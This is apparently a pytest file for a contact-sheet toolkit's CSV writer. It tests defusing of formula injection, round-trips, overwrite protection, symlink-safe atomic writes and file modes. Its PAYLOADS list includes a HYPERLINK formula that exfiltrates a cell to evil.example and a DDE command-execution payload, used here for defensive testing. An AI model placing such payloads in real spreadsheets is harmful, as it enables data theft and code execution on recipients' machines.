"""The one CSV writer: inert cells for people (issue 20), round-trips, force, atomic writes."""

from __future__ import annotations

import csv
import os
import re
import stat

import pandas as pd
import pytest

from miogram_toolkit.sheets import (
    ContactFileError,
    OutputExists,
    read_contacts,
    write_csv,
    write_excel,
    write_table,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
STAY = ["+989121234567", "-2", "3.5", "+98 912 123 4567", "Sara", "it's", "a=b"]


def _frame() -> pd.DataFrame:
    texts = PAYLOADS + STAY
    return pd.DataFrame({"mobile": ["09121000001"] * len(texts), "name": texts})


def test_formula_payloads_are_quoted_and_plain_numbers_and_phones_stay(tmp_path):
    path = write_csv(_frame(), tmp_path / "out.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    names = [row[1] for row in rows[1:]]
    assert names[: len(PAYLOADS)] == ["'" + text for text in PAYLOADS]
    assert names[len(PAYLOADS):] == STAY
    # No cell a spreadsheet would run: every one starts with a safe character or is plain.
    for cell in names[: len(PAYLOADS)]:
        assert cell[0] == "'"


def test_pandas_reads_the_quoted_cells_as_inert_text(tmp_path):
    path = write_csv(_frame(), tmp_path / "out.csv")
    back = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert back["name"].tolist()[: len(PAYLOADS)] == ["'" + text for text in PAYLOADS]
    assert back["name"].tolist()[len(PAYLOADS):] == STAY


def test_read_contacts_takes_the_quote_back_so_outputs_round_trip(tmp_path):
    frame = _frame()
    frame.loc[len(frame)] = ["09121000002", "'-already quoted"]
    path = write_csv(frame, tmp_path / "out.csv")
    back = read_contacts(path)
    assert back["name"].tolist() == frame["name"].tolist()
    assert back["mobile"].tolist() == frame["mobile"].tolist()


def test_headers_are_made_inert_too(tmp_path):
    frame = pd.DataFrame({"=cmd": ["x"], "mobile": ["09121000001"]})
    path = write_csv(frame, tmp_path / "out.csv")
    assert path.read_text("utf-8-sig").splitlines()[0] == "'=cmd,mobile"
    assert list(read_contacts(path).columns) == ["=cmd", "mobile"]


def test_numbers_are_not_text_and_stay_numbers(tmp_path):
    frame = pd.DataFrame({"score": [-2, 3], "delta": [-1.5, 2.0]})
    path = write_csv(frame, tmp_path / "out.csv")
    assert path.read_text("utf-8-sig").splitlines() == ["score,delta", "-2,-1.5", "3,2.0"]


def test_csv_for_machines_keeps_cells_and_labels_utc(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1"],
                          "sent_at": pd.to_datetime(["2026-03-20 20:45"], utc=True)})
    path = write_csv(frame, tmp_path / "m.csv", for_people=False)
    assert path.read_bytes()[:3] != b"\xef\xbb\xbf"
    assert path.read_text().splitlines() == ["name,sent_at (UTC)",
                                             "=1+1,2026-03-20 20:45:00+00:00"]


def test_csv_for_people_shows_tehran_time_and_the_jalali_date_labelled(tmp_path):
    frame = pd.DataFrame({"sent_at": pd.to_datetime(["2026-03-20 20:45"], utc=True),
                          "Joined": pd.to_datetime(["2024-01-05"])})
    path = write_csv(frame, tmp_path / "p.csv")
    lines = path.read_text("utf-8-sig").splitlines()
    assert lines[0] == "sent_at (Tehran),sent_on (Jalali),Joined"
    # The toolkit's moment moves to Tehran's clock; the user's own date stays as given.
    assert lines[1] == "2026-03-21 00:15:00,1405/01/01,2024-01-05"


def test_an_existing_file_is_kept_without_force(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("precious")
    with pytest.raises(OutputExists) as info:
        write_csv(_frame(), target)
    assert str(info.value) == (f"Cannot write '{target}': the file already exists; give another "
                               "name, or pass --force (force=True) to replace it.")
    assert target.read_text() == "precious"
    write_csv(_frame(), target, force=True)
    assert "precious" not in target.read_text("utf-8-sig")


def test_write_table_chooses_by_extension_and_refuses_others(tmp_path):
    frame = _frame()
    assert write_table(frame, tmp_path / "a.csv").read_text("utf-8-sig").startswith("mobile")
    assert read_contacts(write_table({"c": frame}, tmp_path / "a.xlsx"))["name"].tolist() == \
        frame["name"].tolist()
    with pytest.raises(ContactFileError, match=r"must be a \.csv or \.xlsx file"):
        write_table(frame, tmp_path / "a.txt")
    with pytest.raises(ContactFileError, match="a CSV file holds one sheet and there are 2"):
        write_table({"a": frame, "b": frame}, tmp_path / "b.csv")


@pytest.mark.parametrize("writer,name", [(write_csv, "out.csv"), (write_excel, "out.xlsx")])
def test_writes_never_follow_a_planted_temporary_name(tmp_path, writer, name):
    victim = tmp_path / "victim"
    victim.write_text("keep")
    # The old writers used these predictable names beside the target.
    for planted in (f".{name}.part", f".{name}.tmp"):
        (tmp_path / planted).symlink_to(victim)
    writer(_frame(), tmp_path / name)
    assert victim.read_text() == "keep"
    leftovers = {p.name for p in tmp_path.iterdir()} - {name, "victim", f".{name}.part",
                                                       f".{name}.tmp"}
    assert leftovers == set()


def test_reports_keep_the_umask_and_private_files_are_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        shared = write_csv(_frame(), tmp_path / "shared.csv")
        private = write_csv(_frame(), tmp_path / "private.csv", private=True)
    finally:
        os.umask(old)
    assert stat.S_IMODE(shared.stat().st_mode) == 0o644
    assert stat.S_IMODE(private.stat().st_mode) == 0o600


def test_progress_is_shown_when_asked_and_silent_when_not(tmp_path, capsys):
    write_csv(_frame(), tmp_path / "a.csv", progress=True)
    assert "writing a.csv" in capsys.readouterr().err
    write_csv(_frame(), tmp_path / "b.csv", progress=False)
    write_excel(_frame(), tmp_path / "c.xlsx", progress=False)
    assert capsys.readouterr().err == ""
    write_excel(_frame(), tmp_path / "d.xlsx", progress=True)
    assert "writing d.xlsx" in capsys.readouterr().err


def test_any_text_round_trips_through_the_quote_and_none_starts_risky():
    from hypothesis import given
    from hypothesis import strategies as st

    from miogram_toolkit.sheets.inert import TRIGGERS, make_inert, take_back

    alphabet = st.sampled_from(list("'=+-@\t\r 0123456789.eE,abc|!()"))

    @given(st.lists(st.text(alphabet, max_size=8), min_size=1, max_size=5))
    def check(texts):
        values = pd.Series(texts, dtype=object)
        written = make_inert(values)
        assert take_back(written).tolist() == texts
        for cell in written:
            # What starts like a formula must be plainly a number or a phone.
            if cell and cell[0] in TRIGGERS:
                assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|\+\d[\d ]{5,20}\d",
                                    cell), cell

    check()
